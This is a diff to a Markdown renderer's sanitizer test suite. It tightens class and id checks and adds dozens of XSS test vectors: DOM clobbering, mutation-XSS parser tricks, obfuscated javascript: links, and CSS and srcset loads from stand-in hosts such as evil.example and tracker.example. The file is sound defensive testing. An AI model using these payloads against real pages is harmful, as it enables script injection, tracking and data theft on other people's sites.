@@ -7,16 +7,20 @@ import { renderMarkdown } from './render.ts'
 /** What the renderer may write at all. Anything else in its output is a hole, whatever it does. */
 const ELEMENTS = new Set(
   (
-    'a blockquote br code del div em figcaption figure footer h2 h3 h4 h5 h6 hr img input li ol p pre s section span strong sup ' +
-    'table tbody td th thead tr ul'
+    'a abbr aside b blockquote br caption code dd del details div dl dt em figcaption figure footer h2 h3 h4 h5 h6 hr i img input ' +
+    'ins kbd li mark ol p pre s section small span strong sub summary sup table tbody td tfoot th thead tr u ul'
   ).split(' '),
 )
 const ATTRIBUTES = new Set(
   (
-    'alt aria-label aria-labelledby checked class decoding disabled height href id loading rel role scope src start tabindex title ' +
-    'type width'
+    'alt aria-label aria-labelledby checked class colspan decoding disabled height href id loading open rel reversed role rowspan ' +
+    'scope src start tabindex title type value width'
   ).split(' '),
 )
+/** Classes the renderer gives out itself. */
+const CLASSES = /^(?:language-.*|c|hl|k|long|m|n|notes?|return|s|scroll|task|wide|gallery|square|tall|code|poster)$/
+/** What the page, its scripts or a browser know by name: no text may stand in its place (DOM clobbering). */
+const NAMES = /^(?:inhalt|__proto__)$/
 const SCHEMES = new Set(['http:', 'https:', 'mailto:', 'tel:'])
 
 /** Everything in a piece of markup that could run, load or reach elsewhere than it says. */
@@ -29,6 +33,8 @@ function harm(html: string): string[] {
         found.push(`<${node.tagName}>`)
       for (const { name, value } of node.attrs) {
         if (!ATTRIBUTES.has(name)) found.push(`${name}=`)
+        if (name === 'class' && !value.split(' ').every((one) => CLASSES.test(one))) found.push(`class=${value}`)
+        if (name === 'id' && NAMES.test(value)) found.push(`id=${value}`)
         if (name === 'type' && value !== 'checkbox') found.push(`type=${value}`)
         if (name !== 'href' && name !== 'src') continue
         // read as a browser does, control characters and all
@@ -138,6 +144,65 @@ const VECTORS = [
   '[www.a.de/"onclick="alert(1)](javascript:alert(1))',
   '^[www.a.de/"onclick="alert(1)]',
   '&#60;script&#62;alert(1)&#x3c;/script&#x3e; &#139;script&#155;',
+  // DOM clobbering
+  '<a id=location href=/a>x</a><a id=location name=href href=javascript:alert(1)>y</a>',
+  '<form id=document><input name=cookie><input name=getElementById></form>',
+  '<img name=currentScript src=/a.png><img id=body src=/b.png>',
+  '<h2 id=inhalt>x</h2>\n\n<h2 id=fn-1>y</h2>',
+  '<iframe name=top srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object id=defaultView><object id=defaultView name=x></object></object>',
+  '# inhalt\n\n# __proto__\n\n# constructor',
+  '<div class="badge icon notes" id="zu-1" data-embed="https://evil.example" role=alert aria-label=x tabindex=5>x</div>',
+  // mutation XSS: what is harmless where it is read once, and not where it is read again
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
+  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
+  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
+  '<select><template><style></select><img src=x onerror=alert(1)></style></template>',
+  '<title><a title="</title><img src=x onerror=alert(1)>">',
+  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
+  '<plaintext><img src=x onerror=alert(1)>',
+  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<table><td><a><table><td></a><img src=x onerror=alert(1)>',
+  '<p title="&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>',
+  '<abbr title="&quot; onmouseover=&quot;alert(1)">x</abbr>',
+  "<abbr title='\"><img src=x onerror=alert(1)>'>x</abbr>",
+  '<img src="/a.png" alt="`><script>alert(1)</script>">',
+  '<a href="/a" title="</a><script>alert(1)</script>">x</a>',
+  '<div title="\n\n<img src=x onerror=alert(1)>">',
+  '<b <script>alert(1)</script>>x</b>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<<script>alert(1)//<</script>',
+  '<img src="/a.png" srcset="https://evil.example/a.png 2x" onload=alert(1)>',
+  '<picture><source srcset="https://evil.example/a.png"><img src="/a.png"></picture>',
+  '<a href="java&Tab;script:alert(1)">x</a>',
+  '<a href="&#1;javascript:alert(1)">x</a>',
+  '<a href=" javascript:alert(1)">x</a>',
+  '<a href="data:text/html,x" ping="https://evil.example">x</a>',
+  '<img src="//tracker.example/a.gif" width=1 height=1>',
+  '<img src="/\\tracker.example/a.gif">',
+  '<iframe src="javascript:alert(1)">x</iframe>',
+  '<iframe src="https://youtube.com.evil.example/embed/abcdefghijk"></iframe>',
+  '<embed src="data:text/html,x"><applet code=x></applet><frameset onload=alert(1)>',
+  '<video poster="https://tracker.example/a.png" src=x onerror=alert(1)></video>',
+  '<marquee onstart=alert(1)>x</marquee><isindex action=javascript:alert(1)>',
+  '<pre><code class="language-x&quot; onclick=alert(1)">x</code></pre>',
+  '<pre><script>alert(1)</script></pre>',
+  '<pre class="x" onclick=alert(1)>`<b>`</pre>',
+  // styles
+  '<p style="background:url(https://tracker.example/a.gif)">x</p>',
+  '<style>body{background:url(https://tracker.example/a)} input[value^=a]{background:url(//x.example/a)}</style>',
+  '<div style="position:fixed;inset:0;z-index:9999">x</div>',
+  '<td style="width:expression(alert(1))" background="https://tracker.example/a.gif">x',
+  '<table background="https://tracker.example/a.gif" bgcolor=red><tr><td>x</table>',
+  '<font style="behavior:url(#default#time2)" color="&{alert(1)}">x</font>',
+  '<span style="@import url(https://evil.example/x.css)">x</span>',
+  '<link rel=stylesheet href="data:text/css,*{x:y}"><style>@import "https://evil.example"</style>',
+  '<p class="wide hero masthead skip">x</p>',
 ]
 
 describe('nothing harmful comes out of the renderer', () => {
